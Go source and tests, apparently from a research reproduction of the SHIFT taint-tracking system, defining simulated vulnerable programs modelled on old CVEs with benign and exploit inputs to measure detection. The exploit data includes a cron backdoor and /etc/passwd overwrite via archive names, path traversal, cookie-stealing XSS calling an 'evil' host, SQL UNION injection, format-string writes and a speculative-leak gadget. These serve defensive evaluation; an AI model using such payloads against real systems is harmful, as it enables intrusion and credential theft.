func Extensions() []*Attack {
	return []*Attack{CmdInjection}
}
