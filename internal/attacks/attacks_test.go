package attacks

import (
	"strings"
	"testing"

	"shift/internal/shift"
	"shift/internal/taint"
)

// TestTable2 is the paper's security evaluation: every attack detected at
// both granularities, no false positives, and every exploit succeeds when
// SHIFT is off.
func TestTable2(t *testing.T) {
	results, err := EvaluateAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 16 { // 8 attacks x 2 granularities
		t.Fatalf("got %d results", len(results))
	}
	for _, r := range results {
		if r.BenignAlert != "" {
			t.Errorf("%s (%s): false positive: %s", r.Attack.Program, r.Gran, r.BenignAlert)
		}
		if r.ExploitPolicy != r.Attack.Expect {
			t.Errorf("%s (%s): exploit raised %q, want %q",
				r.Attack.Program, r.Gran, r.ExploitPolicy, r.Attack.Expect)
		}
		if !r.UnprotectedSucceeded {
			t.Errorf("%s (%s): exploit did not succeed without SHIFT", r.Attack.Program, r.Gran)
		}
		if !r.Detected() {
			t.Errorf("%s (%s): overall verdict false", r.Attack.Program, r.Gran)
		}
	}
}

// TestAttackEffectsWithoutSHIFT spot-checks that the exploits actually do
// their damage when unprotected — the attack is real, not just a policy
// tripwire.
func TestAttackEffectsWithoutSHIFT(t *testing.T) {
	run := func(a *Attack, w *shift.World) *shift.Result {
		t.Helper()
		res, err := shift.BuildAndRun([]shift.Source{{Name: a.Program, Text: a.Source}}, w, shift.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if res.Trap != nil {
			t.Fatalf("%s: trap: %v", a.Program, res.Trap)
		}
		return res
	}

	// Tar writes to an absolute path.
	res := run(GnuTar, GnuTar.Exploit())
	found := false
	for _, p := range res.World.Opened {
		if strings.HasPrefix(p, "/etc/") {
			found = true
		}
	}
	if !found {
		t.Errorf("tar exploit did not reach /etc: opened %v", res.World.Opened)
	}

	// XSS delivers a script tag to the browser.
	res = run(Scry, Scry.Exploit())
	if !strings.Contains(strings.ToLower(string(res.World.HTMLOut)), "<script") {
		t.Errorf("scry exploit output lacks script tag: %q", res.World.HTMLOut)
	}

	// SQL injection reaches the database with a spliced quote.
	res = run(PhpMyFAQ, PhpMyFAQ.Exploit())
	if len(res.World.SQLLog) == 0 || !strings.Contains(res.World.SQLLog[0], "UNION SELECT") {
		t.Errorf("faq exploit query missing: %v", res.World.SQLLog)
	}

	// The format string attack overwrites the chosen slot — observable
	// as a store that strict mode would never allow.
	res = run(Bftpd, Bftpd.Exploit())
	if res.ExitStatus != 0 {
		t.Errorf("bftpd exploit did not complete: exit %d", res.ExitStatus)
	}
}

// TestBenignBehaviourPreserved: under SHIFT, benign requests are served
// exactly as without it.
func TestBenignBehaviourPreserved(t *testing.T) {
	for _, a := range All() {
		a := a
		t.Run(a.Program, func(t *testing.T) {
			base, err := shift.BuildAndRun([]shift.Source{{Name: a.Program, Text: a.Source}},
				a.Benign(), shift.Options{})
			if err != nil {
				t.Fatal(err)
			}
			conf := a.Config()
			prot, err := shift.BuildAndRun([]shift.Source{{Name: a.Program, Text: a.Source}},
				a.Benign(), shift.Options{Instrument: true, Policy: conf})
			if err != nil {
				t.Fatal(err)
			}
			if base.Trap != nil || prot.Trap != nil {
				t.Fatalf("traps: base=%v prot=%v", base.Trap, prot.Trap)
			}
			if prot.Alert != nil {
				t.Fatalf("false positive: %v", prot.Alert)
			}
			if string(base.World.NetOut) != string(prot.World.NetOut) ||
				string(base.World.Stdout) != string(prot.World.Stdout) ||
				string(base.World.HTMLOut) != string(prot.World.HTMLOut) {
				t.Error("benign behaviour diverged under SHIFT")
			}
		})
	}
}

func TestTableMetadata(t *testing.T) {
	if len(All()) != 8 {
		t.Fatalf("Table 2 has 8 rows, got %d", len(All()))
	}
	for _, a := range All() {
		if a.CVE == "" || a.Program == "" || a.Type == "" || a.Expect == "" || a.Policies == "" {
			t.Errorf("%s: incomplete metadata", a.Program)
		}
	}
}

func TestWordGranularityStillDetects(t *testing.T) {
	// Coarse tags may over-approximate but never miss these attacks.
	r, err := Evaluate(Qwikiwiki, taint.Word)
	if err != nil {
		t.Fatal(err)
	}
	if !r.Detected() {
		t.Errorf("word-level tracking missed the traversal: %+v", r)
	}
}

// TestExtensionAttacks evaluates the scenarios added beyond Table 2
// (currently H4 command injection) under the same three-leg protocol.
func TestExtensionAttacks(t *testing.T) {
	for _, a := range Extensions() {
		for _, g := range []taint.Granularity{taint.Byte, taint.Word} {
			r, err := Evaluate(a, g)
			if err != nil {
				t.Fatalf("%s (%s): %v", a.Program, g, err)
			}
			if !r.Detected() {
				t.Errorf("%s (%s): benign=%q exploit=%q raw-ok=%v",
					a.Program, g, r.BenignAlert, r.ExploitPolicy, r.UnprotectedSucceeded)
			}
		}
	}
}
