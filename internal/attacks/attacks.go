// Package attacks reproduces the paper's security evaluation (Table 2):
// eight programs, each a faithful analogue of the vulnerable code path in
// the real CVE the paper attacked, plus benign and exploit inputs. Each
// attack must (a) succeed silently without SHIFT, (b) raise exactly the
// expected policy alert with SHIFT, and (c) raise nothing on benign input
// — zero false positives and zero false negatives, as in §5.2.
package attacks

import (
	"shift/internal/policy"
	"shift/internal/shift"
)

// Attack is one row of Table 2.
type Attack struct {
	CVE      string
	Program  string // original program and version
	Language string // original implementation language
	Type     string // attack class
	Policies string // detection policies, as the paper lists them
	Expect   string // policy ID the exploit must trip

	Source  string
	Benign  func() *shift.World
	Exploit func() *shift.World
}

// Config returns the policy configuration the attack's server runs under
// (all policies on, network + file sources — the paper's "low level
// policies" are always enabled and the high-level ones selected per
// application).
func (a *Attack) Config() *policy.Config { return policy.DefaultConfig() }

// netWorld builds a world with the given network input.
func netWorld(input string) func() *shift.World {
	return func() *shift.World {
		w := shift.NewWorld()
		w.NetIn = []byte(input)
		return w
	}
}

// fileWorld builds a world with one disk file.
func fileWorld(name string, content []byte) func() *shift.World {
	return func() *shift.World {
		w := shift.NewWorld()
		w.Files[name] = content
		return w
	}
}

// pad returns s padded with NULs to n bytes.
func pad(s string, n int) []byte {
	b := make([]byte, n)
	copy(b, s)
	return b
}

// tarArchive builds the fixed-record archive format GnuTar uses:
// each entry is a 32-byte name, an 8-byte ASCII size, 256 bytes of data.
func tarArchive(entries ...[2]string) []byte {
	var out []byte
	for _, e := range entries {
		out = append(out, pad(e[0], 32)...)
		size := []byte{'0', '0', '0'}
		n := len(e[1])
		size[0] = byte('0' + n/100)
		size[1] = byte('0' + n/10%10)
		size[2] = byte('0' + n%10)
		out = append(out, pad(string(size), 8)...)
		out = append(out, pad(e[1], 256)...)
	}
	return out
}

// GnuTar reproduces CVE-2001-1267: tar extracted member names without
// stripping leading '/', letting a malicious archive write outside the
// extraction directory. Detected by H1 (tainted absolute path) plus the
// low-level policies.
var GnuTar = &Attack{
	CVE:      "CVE-2001-1267",
	Program:  "GNU Tar (1.13.x analogue of 1.4)",
	Language: "C",
	Type:     "Directory Traversal",
	Policies: "H1 + Low level policies",
	Expect:   "H1",
	Source: `
char arch[4096];
char name[40];
char content[256];

void main() {
	int fd = open("upload.tar", 0);
	if (fd < 0) exit(1);
	int n = read(fd, arch, 4096);
	int off = 0;
	int extracted = 0;
	while (off + 296 <= n) {
		int i;
		for (i = 0; i < 32; i++) name[i] = arch[off + i];
		name[32] = 0;
		int size = 0;
		for (i = 0; i < 8; i++) {
			char c = arch[off + 32 + i];
			if (c >= '0' && c <= '9') size = size * 10 + (c - '0');
		}
		if (size > 256) size = 256;
		for (i = 0; i < size; i++) content[i] = arch[off + 40 + i];
		// The vulnerability: the member name is used as the output
		// path with no check for absolute paths.
		int out = open(name, 1);
		if (out >= 0) write(out, content, size);
		extracted++;
		off += 296;
	}
	print_int(extracted); putc('\n');
	exit(0);
}
`,
	Benign: fileWorld("upload.tar", tarArchive(
		[2]string{"docs/readme.txt", "hello world"},
		[2]string{"docs/notes.txt", "more text"},
	)),
	Exploit: fileWorld("upload.tar", tarArchive(
		[2]string{"/etc/cron.d/evil", "* * * * * root /tmp/backdoor"},
	)),
}

// GnuGzip reproduces the gzip -N path vulnerability (CVE-2005-1228
// analogue): the original filename stored inside the compressed stream is
// restored verbatim. Detected by H1.
var GnuGzip = &Attack{
	CVE:      "CVE-2005-1228",
	Program:  "GNU Gzip (1.2.4)",
	Language: "C",
	Type:     "Directory Traversal",
	Policies: "H1 + Low level policies",
	Expect:   "H1",
	Source: `
char fbuf[2048];
char oname[64];
char data[1024];

void main() {
	int fd = open("archive.gz", 0);
	if (fd < 0) exit(1);
	int n = read(fd, fbuf, 2048);
	if (n < 2 || fbuf[0] != 31 || fbuf[1] != 139) exit(2);
	// The stored original name is NUL-terminated at offset 2.
	int i = 0;
	while (i < 60 && fbuf[2 + i]) { oname[i] = fbuf[2 + i]; i++; }
	oname[i] = 0;
	int dstart = 2 + i + 1;
	int dlen = n - dstart;
	for (i = 0; i < dlen; i++) data[i] = fbuf[dstart + i];
	// The vulnerability: restore to the embedded name unchecked.
	int out = open(oname, 1);
	if (out >= 0) write(out, data, dlen);
	print_int(dlen); putc('\n');
	exit(0);
}
`,
	Benign: fileWorld("archive.gz",
		append([]byte{31, 139}, pad("notes.txt\x00original file body", 512)...)),
	Exploit: fileWorld("archive.gz",
		append([]byte{31, 139}, pad("/etc/passwd\x00root::0:0::/:/bin/sh", 512)...)),
}

// Qwikiwiki reproduces CVE-2006-1586: the wiki page parameter is joined
// onto the page directory, so "../" sequences escape the document root.
// Detected by H2.
var Qwikiwiki = &Attack{
	CVE:      "CVE-2006-1586",
	Program:  "QwikiWiki (1.4.1)",
	Language: "PHP",
	Type:     "Directory Traversal",
	Policies: "H2 + Low level policies",
	Expect:   "H2",
	Source: `
char req[256];
char path[512];
char buf[4096];

void main() {
	int n = recv(req, 256);
	if (n <= 0) exit(1);
	// The vulnerability: the page name joins the docroot unchecked.
	strcpy(path, "/www/pages/");
	strcat(path, req);
	strcat(path, ".txt");
	int fd = open(path, 0);
	if (fd < 0) {
		send("missing", 7);
		exit(0);
	}
	int k = read(fd, buf, 4096);
	send(buf, k);
	exit(0);
}
`,
	Benign: func() *shift.World {
		w := shift.NewWorld()
		w.NetIn = []byte("home")
		w.Files["/www/pages/home.txt"] = []byte("welcome to the wiki")
		return w
	},
	Exploit: netWorld("../../../../etc/passwd"),
}

// xssSource is the shared shape of the three PHP gallery/statistics XSS
// analogues: a request parameter echoed into HTML output unescaped.
// The three differ in how the parameter reaches the page, mirroring the
// distinct CVEs.
func xssSource(prefix, suffix string) string {
	return `
char req[256];
char page[1024];

void main() {
	int n = recv(req, 256);
	if (n <= 0) exit(1);
	strcpy(page, "` + prefix + `");
	strcat(page, req);
	strcat(page, "` + suffix + `");
	html_write(page, strlen(page));
	exit(0);
}
`
}

// Scry reproduces CVE-2007-1061: the Scry gallery echoes the requested
// album name into the page. Detected by H5.
var Scry = &Attack{
	CVE:      "CVE-2007-1061",
	Program:  "Scry (1.1)",
	Language: "PHP",
	Type:     "Cross Site Scripting",
	Policies: "H5 + Low level policies",
	Expect:   "H5",
	Source:   xssSource("<html><body><h1>Album: ", "</h1></body></html>"),
	Benign:   netWorld("holiday2006"),
	Exploit:  netWorld("<script>document.location='http://evil/'+document.cookie</script>"),
}

// PhpStats reproduces CVE-2006-2864: php-stats echoes a statistics query
// parameter. Detected by H5.
var PhpStats = &Attack{
	CVE:      "CVE-2006-2864",
	Program:  "php-stats (0.1.9.1b)",
	Language: "PHP",
	Type:     "Cross Site Scripting",
	Policies: "H5 + Low level policies",
	Expect:   "H5",
	Source:   xssSource("<html><table><tr><td>page</td><td>", "</td></tr></table></html>"),
	Benign:   netWorld("/index.html"),
	Exploit:  netWorld("<SCRIPT>alert(document.cookie)</SCRIPT>"),
}

// PhpSysInfo reproduces CVE-2005-3347: phpSysInfo reflects the template
// parameter. Detected by H5.
var PhpSysInfo = &Attack{
	CVE:      "CVE-2005-3347",
	Program:  "phpSysInfo (2.3)",
	Language: "PHP",
	Type:     "Cross Site Scripting",
	Policies: "H5 + Low level policies",
	Expect:   "H5",
	Source:   xssSource("<html><body>template=", "</body></html>"),
	Benign:   netWorld("classic"),
	Exploit:  netWorld("<script src=http://evil/x.js></script>"),
}

// PhpMyFAQ reproduces CVE-2006-5858: the FAQ id parameter is spliced into
// a SQL query. Detected by H3.
var PhpMyFAQ = &Attack{
	CVE:      "CVE-2006-5858",
	Program:  "phpMyFAQ (1.6.8)",
	Language: "PHP",
	Type:     "SQL Command Injection",
	Policies: "H3 + Low level policies",
	Expect:   "H3",
	Source: `
char id[128];
char q[512];

void main() {
	int n = recv(id, 128);
	if (n <= 0) exit(1);
	// The vulnerability: the id parameter is spliced into the query
	// with no quoting or validation.
	strcpy(q, "SELECT answer FROM faqdata WHERE qid = '");
	strcat(q, id);
	strcat(q, "'");
	sql_exec(q);
	exit(0);
}
`,
	Benign:  netWorld("20060915"),
	Exploit: netWorld("42' UNION SELECT password FROM users WHERE '1'='1"),
}

// Bftpd reproduces the paper's adjusted Bftpd (< 0.96) format-string
// attack: a user-controlled %n-style directive makes the logging routine
// store through an attacker-chosen slot index — the GOT overwrite. The
// tainted store address trips L2.
var Bftpd = &Attack{
	CVE:      "N/A",
	Program:  "Bftpd (0.96 prior)",
	Language: "C",
	Type:     "Format string attack",
	Policies: "L2",
	Expect:   "L2",
	Source: `
char cmd[128];
int got[64];

// vsnprintf-like formatter: %<idx>n writes the running character count
// into got[idx]; the index comes straight from user input.
void format_log(char *fmt) {
	int i = 0;
	int count = 0;
	while (fmt[i]) {
		if (fmt[i] == '%') {
			i++;
			int idx = 0;
			while (fmt[i] >= '0' && fmt[i] <= '9') {
				idx = idx * 10 + (fmt[i] - '0');
				i++;
			}
			if (fmt[i] == 'n') {
				got[idx] = count;
				i++;
			}
		} else {
			count++;
			i++;
		}
	}
}

void main() {
	int n = recv(cmd, 128);
	if (n <= 0) exit(1);
	// The vulnerability: the client command is used as a format string.
	format_log(cmd);
	send("250 ok", 6);
	exit(0);
}
`,
	Benign:  netWorld("USER anonymous"),
	Exploit: netWorld("USER aaaaaaaaaaaaaaaa%7n"),
}

// All returns Table 2's rows in the paper's order.
func All() []*Attack {
	return []*Attack{
		GnuTar, GnuGzip, Qwikiwiki, Scry, PhpStats, PhpSysInfo, PhpMyFAQ, Bftpd,
	}
}
