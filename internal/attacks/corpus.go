package attacks

// The structured attack corpus: every Table-2 row plus the extension
// scenarios, each annotated with the verdict kind its detection takes
// (an H-policy sink alert vs. an L-policy NaT-consumption trap) and the
// birth channel of the taint that drives it. The channel annotation is
// what the per-channel policy keying (policy.Config.Channels) is
// evaluated against in the precision matrix.

import (
	"shift/internal/shift"
	"shift/internal/taint"
)

// Verdict kinds a scenario's detection can take.
const (
	// KindSink: the exploit is caught by a high-level policy check at a
	// syscall sink (H1–H5) — the run ends in a policy Alert whose trap
	// is synthetic.
	KindSink = "sink"
	// KindTrap: the exploit is caught by the hardware NaT-consumption
	// machinery (L1–L3) — the run ends in a policy Alert wrapping a real
	// machine trap.
	KindTrap = "trap"
)

// Scenario is one corpus entry: an Attack plus the metadata the matrix
// and the channel-keyed policies need.
type Scenario struct {
	*Attack

	// Name is the short stable slug the matrix, shiftattack -list, and
	// tests key on (Attack.Program is a long human-readable title).
	Name string
	// Kind is KindSink or KindTrap — which detection path the expected
	// policy uses. The run harness verifies the verdict arrived through
	// the matching path (satellite: trap and sink detections must not be
	// conflated).
	Kind string
	// Channel is the union of birth channels the exploit's taint is born
	// from.
	Channel taint.Channel
	// Asm marks Source as hand-written assembly (shift.BuildAsm) rather
	// than minic.
	Asm bool
	// Eval, when non-nil, replaces the standard benign/exploit/baseline
	// evaluation with a scenario-specific harness (the pool-bleed entry
	// needs a cross-request lifecycle, not three isolated runs).
	Eval func(opt EvalOptions) (*Outcome, error)
}

// kindOf derives the verdict kind from a policy ID.
func kindOf(policyID string) string {
	if len(policyID) > 0 && policyID[0] == 'L' {
		return KindTrap
	}
	return KindSink
}

// wrap annotates a Table-2 attack as a corpus scenario.
func wrap(name string, a *Attack, ch taint.Channel) *Scenario {
	return &Scenario{Attack: a, Name: name, Kind: kindOf(a.Expect), Channel: ch}
}

// ScenarioMeta is the JSON-friendly scenario listing (shiftattack -list
// -json).
type ScenarioMeta struct {
	Name     string `json:"name"`
	CVE      string `json:"cve"`
	Program  string `json:"program"`
	Language string `json:"language"`
	Type     string `json:"type"`
	Policies string `json:"policies"`
	Expect   string `json:"expect"`
	Kind     string `json:"kind"`
	Channel  string `json:"channel"`
}

// Meta renders the scenario's corpus metadata.
func (s *Scenario) Meta() ScenarioMeta {
	return ScenarioMeta{
		Name:     s.Name,
		CVE:      s.CVE,
		Program:  s.Program,
		Language: s.Language,
		Type:     s.Type,
		Policies: s.Policies,
		Expect:   s.Expect,
		Kind:     s.Kind,
		Channel:  s.Channel.String(),
	}
}

// FormatStringArgv is a command-line variant of the Bftpd format-string
// gadget: the format string arrives through argv instead of the network,
// so its taint is born from the args channel. A log utility formats its
// own command line; %<idx>n writes through an attacker-chosen slot.
var FormatStringArgv = &Attack{
	CVE:      "EXT-FMT-ARGV",
	Program:  "syslog helper (extension)",
	Language: "C",
	Type:     "Format string attack",
	Policies: "L2",
	Expect:   "L2",
	Source: `
char msg[128];
int slots[64];

void format_log(char *fmt) {
	int i = 0;
	int count = 0;
	while (fmt[i]) {
		if (fmt[i] == '%') {
			i++;
			int idx = 0;
			while (fmt[i] >= '0' && fmt[i] <= '9') {
				idx = idx * 10 + (fmt[i] - '0');
				i++;
			}
			if (fmt[i] == 'n') {
				slots[idx] = count;
				i++;
			}
		} else {
			count++;
			i++;
		}
	}
}

void main() {
	int n = getarg(1, msg, 128);
	if (n <= 0) exit(1);
	// The vulnerability: argv[1] is used as a format string.
	format_log(msg);
	putc(10);
	exit(0);
}
`,
	Benign: func() *shift.World {
		w := shift.NewWorld()
		w.Args = []string{"logger", "session started"}
		return w
	},
	Exploit: func() *shift.World {
		w := shift.NewWorld()
		w.Args = []string{"logger", "aaaaaaaaaaaa%9n"}
		return w
	},
}

// HeapOverflow is a heap-overwrite scenario: a request record is
// allocated on the heap with a trusted dispatch slot after the name
// buffer, and the copy loop trusts the wire length. The overflow lands
// attacker bytes in the slot; the dispatch store through it is a tainted
// store address — L2, the DIFT view of a heap corruption turning into a
// control overwrite.
var HeapOverflow = &Attack{
	CVE:      "EXT-HEAP",
	Program:  "record server (extension)",
	Language: "C",
	Type:     "Heap overwrite",
	Policies: "L2",
	Expect:   "L2",
	Source: `
char req[128];
int table[16];

void main() {
	int n = recv(req, 128);
	if (n <= 0) exit(1);
	char *rec = sbrk(68);
	// rec[0..63] is the record name; rec[64] is the dispatch slot the
	// server fills in itself.
	rec[64] = 3;
	// The vulnerability: the copy loop trusts the wire length and can
	// run past the 64-byte name field into the slot.
	int i;
	for (i = 0; i < n; i++) rec[i] = req[i];
	int slot = rec[64];
	table[slot] = 1;
	send("ok", 2);
	exit(0);
}
`,
	Benign: netWorld("alpha record"),
	Exploit: func() *shift.World {
		w := shift.NewWorld()
		payload := make([]byte, 66)
		for i := range payload {
			payload[i] = 'A'
		}
		payload[64] = '!' // lands in the dispatch slot
		w.NetIn = payload
		return w
	},
}

// UseAfterFree is a dangling-handle scenario: the session block is
// returned to a bump allocator on QUIT, immediately reallocated for the
// client's parting message, and then read through the stale handle. The
// recycled bytes are attacker data, so the lookup offset fetched through
// the dangling reference drives a tainted-address load — L1.
var UseAfterFree = &Attack{
	CVE:      "EXT-UAF",
	Program:  "session cache (extension)",
	Language: "C",
	Type:     "Use after free",
	Policies: "L1",
	Expect:   "L1",
	Source: `
char req[64];
char slab[64];
char table[256];
char out[8];
int next;

int alloc8() {
	int p = next;
	next = next + 8;
	return p;
}

void main() {
	int n = recv(req, 64);
	if (n <= 0) exit(1);
	next = 0;
	// The session block holds the lookup offset the reply handler uses.
	int session = alloc8();
	slab[session] = 7;
	if (req[0] == 'Q') {
		// QUIT tears the session down early: the block goes back to the
		// allocator — but the handle survives below.
		next = session;
		// Connection bookkeeping reallocates the same block for the
		// client's parting message.
		int msg = alloc8();
		int i;
		for (i = 0; i + 1 < n && i < 8; i++) slab[msg + i] = req[i + 1];
	}
	// The vulnerability: use after free through the stale handle.
	int off = slab[session];
	out[0] = table[off];
	send(out, 1);
	exit(0);
}
`,
	Benign:  netWorld("HELO cache"),
	Exploit: netWorld("QUIT!goodbye"),
}

// specLeakAsm is the Spectre-style gadget, written at the assembly level
// because it needs the speculation instructions minic never emits. A
// secret key is read from disk (file-channel taint) next to a public
// 8-entry lookup table; the request index is sanitised (untaint models a
// bounds-checking parser the operator vouched for) — but the bounds
// check is off by one and the table load was compiler-hoisted as ld.s
// above it. Index 8 reads table[8] — the first word of the secret —
// speculatively and without faulting; the chk.s recovery path re-runs
// the load non-speculatively, and the probe-array access that encodes
// the value in an address (the cache side channel analogue) consumes
// the taint: L1.
const specLeakAsm = `
	.data
table:
	.word8 10, 11, 12, 13, 14, 15, 16, 17
secret:
	.space 8
probe:
	.space 512
req:
	.space 8
out:
	.space 8
keypath:
	.asciz "secret.key"
	.text
	.entry main
main:
	; read the secret key from disk — file-channel taint lands at 'secret'
	movl r32 = keypath
	movl r33 = 0
	syscall 4              ; open(keypath, 0) -> r8
	mov r14 = r8
	mov r32 = r14
	movl r33 = secret
	movl r34 = 8
	syscall 2              ; read(fd, secret, 8)
	; receive the request: one ASCII digit, the table index
	movl r32 = req
	movl r33 = 8
	syscall 5              ; recv(req, 8)
	movl r15 = req
	ld1 r16 = [r15]
	addi r16 = r16, -48    ; idx = req[0] - '0'
	st8 [r15] = r16
	; the sanitiser: the parser validated the digit, so the operator
	; vouches the buffer clean before the index is consumed
	movl r32 = req
	movl r33 = 8
	syscall 12             ; untaint(req, 8)
	ld8 r16 = [r15]        ; reload the sanitised index
	; compiler-hoisted speculative load of table[idx]
	shli r17 = r16, 3
	movl r18 = table
	add r17 = r17, r18
	ld8.s r19 = [r17]      ; hoisted above the bounds check
	; the bounds check — off by one: permits idx == 8, and table[8]
	; is the first word of the secret
	cmpi.gt p6, p7 = r16, 8
	(p6) br reject
	chk.s r19, recover
use:
	; encode the value in a probe-array address (the cache side channel)
	andi r20 = r19, 7
	shli r20 = r20, 3
	movl r21 = probe
	add r20 = r20, r21
	ld8 r22 = [r20]        ; tainted address on the exploit path -> L1
	movl r23 = out
	st8 [r23] = r22
	movl r32 = out
	movl r33 = 8
	syscall 6              ; send(out, 8)
	movl r32 = 0
	syscall 1
recover:
	ld8 r19 = [r17]        ; non-speculative re-execution
	br use
reject:
	movl r32 = 1
	syscall 1
`

// SpecLeak is the misspeculated-path leak scenario: a bounds-check-
// bypassed ld.s loads file-tainted secret data, the chk.s-recovered
// path keeps it, and the probe access leaks it — closing the loop on the
// paper's title by running an attack *through* the speculation
// machinery itself.
var SpecLeak = &Attack{
	CVE:      "EXT-SPEC",
	Program:  "key lookup service (extension)",
	Language: "asm",
	Type:     "Speculative leak",
	Policies: "L1",
	Expect:   "L1",
	Source:   specLeakAsm,
	Benign: func() *shift.World {
		w := shift.NewWorld()
		w.Files["secret.key"] = []byte("hunter2\x00")
		w.NetIn = []byte("3")
		return w
	},
	Exploit: func() *shift.World {
		w := shift.NewWorld()
		w.Files["secret.key"] = []byte("hunter2\x00")
		w.NetIn = []byte("8")
		return w
	},
}

// PoolBleed is the cross-request taint-bleed scenario promoted from the
// pool lifecycle tests: request A sprays network taint into a warm
// guest's buffers; a recycle that skips the tag clear smuggles those
// tags under request B's trusted-channel query, and H3 fires on a benign
// tenant. Its exploit is a *lifecycle* (two requests over one guest), so
// it evaluates through a custom harness (see runPoolBleed in run.go).
var PoolBleed = &Attack{
	CVE:      "EXT-POOL",
	Program:  "pooled worker (extension)",
	Language: "C",
	Type:     "Cross-request taint bleed",
	Policies: "H3",
	Expect:   "H3",
	Source: `
char buf[64];

void main() {
	int n = recv(buf, 64);
	if (n > 0) {
		exit(0);
	}
	n = read(0, buf, 64);
	sql_exec(buf);
	exit(0);
}
`,
	// Benign/Exploit build the two tenants' worlds; the custom harness
	// sequences them over one guest.
	Benign: func() *shift.World {
		w := shift.NewWorld()
		w.Stdin = []byte("SELECT 'ok'")
		return w
	},
	Exploit: func() *shift.World {
		w := shift.NewWorld()
		rec := make([]byte, 64)
		copy(rec, "payload: anything tainted will do")
		w.NetIn = rec
		return w
	},
}

// Scenarios beyond Table 2, with their corpus metadata.
var (
	scnCmdInjection = wrap("cmd-injection", CmdInjection, taint.ChanNetwork)
	scnFormatArgv   = wrap("fmt-argv", FormatStringArgv, taint.ChanArgs)
	scnHeapOverflow = wrap("heap-overflow", HeapOverflow, taint.ChanNetwork)
	scnUseAfterFree = wrap("use-after-free", UseAfterFree, taint.ChanNetwork)
	scnSpecLeak     = &Scenario{Attack: SpecLeak, Name: "spec-leak", Kind: KindTrap, Channel: taint.ChanFile | taint.ChanNetwork, Asm: true}
	scnPoolBleed    = &Scenario{Attack: PoolBleed, Name: "pool-bleed", Kind: KindSink, Channel: taint.ChanNetwork}
)

// Installed here rather than in the literal: runPoolBleed names
// scnPoolBleed, and Go rejects the initialization cycle.
func init() { scnPoolBleed.Eval = runPoolBleed }

// Corpus returns every scenario: the paper's Table 2 rows (channel-
// annotated), the H4 extension, and the structured additions (format
// string via argv, heap overwrite, use after free, pool bleed, and the
// speculative leak).
func Corpus() []*Scenario {
	return []*Scenario{
		wrap("gnu-tar", GnuTar, taint.ChanFile),
		wrap("gnu-gzip", GnuGzip, taint.ChanFile),
		wrap("qwikiwiki", Qwikiwiki, taint.ChanNetwork),
		wrap("scry", Scry, taint.ChanNetwork),
		wrap("php-stats", PhpStats, taint.ChanNetwork),
		wrap("php-sysinfo", PhpSysInfo, taint.ChanNetwork),
		wrap("php-myfaq", PhpMyFAQ, taint.ChanNetwork),
		wrap("bftpd", Bftpd, taint.ChanNetwork),
		scnCmdInjection,
		scnFormatArgv,
		scnHeapOverflow,
		scnUseAfterFree,
		scnPoolBleed,
		scnSpecLeak,
	}
}
