package attacks

import (
	"encoding/json"
	"testing"

	"shift/internal/policy"
	"shift/internal/taint"
)

// corpusConfigs enumerates the checker/instrumentation matrix the
// corpus must hold under: plain, lockstep oracle, decoupled tag
// pipeline, and selective instrumentation (with the oracle watching).
func corpusConfigs(t *testing.T) []EvalOptions {
	grans := []taint.Granularity{taint.Byte, taint.Word}
	if testing.Short() {
		grans = grans[:1]
	}
	var out []EvalOptions
	for _, g := range grans {
		out = append(out,
			EvalOptions{Gran: g},
			EvalOptions{Gran: g, Oracle: true},
			EvalOptions{Gran: g, Decoupled: true},
			EvalOptions{Gran: g, Selective: true, Oracle: true},
		)
	}
	return out
}

func optLabel(eo EvalOptions) string {
	l := "byte"
	if eo.Gran == taint.Word {
		l = "word"
	}
	switch {
	case eo.Oracle && eo.Selective:
		l += "/selective+oracle"
	case eo.Oracle:
		l += "/oracle"
	case eo.Decoupled:
		l += "/tagpipe"
	default:
		l += "/plain"
	}
	return l
}

// TestCorpusMatrix is the corpus-wide acceptance gate: every scenario,
// benign and exploit, at both granularities, under the lockstep oracle,
// the decoupled tag pipeline, and selective instrumentation — zero
// missed detections and zero benign false positives.
func TestCorpusMatrix(t *testing.T) {
	for _, s := range Corpus() {
		for _, eo := range corpusConfigs(t) {
			s, eo := s, eo
			t.Run(s.Name+"/"+optLabel(eo), func(t *testing.T) {
				t.Parallel()
				o, err := EvaluateScenario(s, eo)
				if err != nil {
					t.Fatal(err)
				}
				if o.Benign.Kind != VerdictSilent {
					t.Errorf("benign run not silent: %s (%s)", o.Benign.Kind, o.Benign.Detail)
				}
				if o.Exploit.Kind != s.Kind || o.Exploit.Policy != s.Expect {
					t.Errorf("exploit verdict = %s/%s, want %s/%s (%s)",
						o.Exploit.Kind, o.Exploit.Policy, s.Kind, s.Expect, o.Exploit.Detail)
				}
				if o.Unprotected.Kind != VerdictSilent {
					t.Errorf("unprotected exploit did not run clean: %s (%s)",
						o.Unprotected.Kind, o.Unprotected.Detail)
				}
				if !o.Detected() {
					t.Errorf("Detected() = false")
				}
			})
		}
	}
}

// TestCorpusChannels pins each scenario's violation channel
// attribution: the exploit's alert must carry (at least) the channel
// the scenario declares as its taint birth channel.
func TestCorpusChannels(t *testing.T) {
	for _, s := range Corpus() {
		s := s
		t.Run(s.Name, func(t *testing.T) {
			t.Parallel()
			o, err := EvaluateScenario(s, EvalOptions{Gran: taint.Byte})
			if err != nil {
				t.Fatal(err)
			}
			if o.Exploit.Channels&s.Channel == 0 {
				t.Errorf("exploit verdict channels = %s, want to include %s",
					o.Exploit.Channels, s.Channel)
			}
		})
	}
}

// TestChannelKeyedSuppression exercises the per-channel policy keying
// diagonal: keying a scenario's expected policy to the wrong channel
// must suppress the detection, keying it to the right channel must
// keep it. A suppressed L policy degrades to a plain fault (the NaT
// consumption still stops the guest); a suppressed H sink runs silent.
func TestChannelKeyedSuppression(t *testing.T) {
	cases := []struct {
		scn        *Scenario
		right      taint.Channel
		wrong      taint.Channel
		suppressed string // verdict kind when keyed to the wrong channel
	}{
		{scnOf(t, "bftpd"), taint.ChanNetwork, taint.ChanFile, VerdictFault},
		{scnOf(t, "gnu-tar"), taint.ChanFile, taint.ChanNetwork, VerdictSilent},
		{scnOf(t, "php-stats"), taint.ChanNetwork, taint.ChanArgs, VerdictSilent},
		{scnOf(t, "fmt-argv"), taint.ChanArgs, taint.ChanNetwork, VerdictFault},
	}
	for _, c := range cases {
		c := c
		t.Run(c.scn.Name, func(t *testing.T) {
			t.Parallel()
			key := func(ch taint.Channel) *policy.Config {
				conf := c.scn.Config().Clone()
				conf.Channels = map[string]taint.Channel{c.scn.Expect: ch}
				return conf
			}
			o, err := EvaluateScenario(c.scn, EvalOptions{Gran: taint.Byte, Config: key(c.right)})
			if err != nil {
				t.Fatal(err)
			}
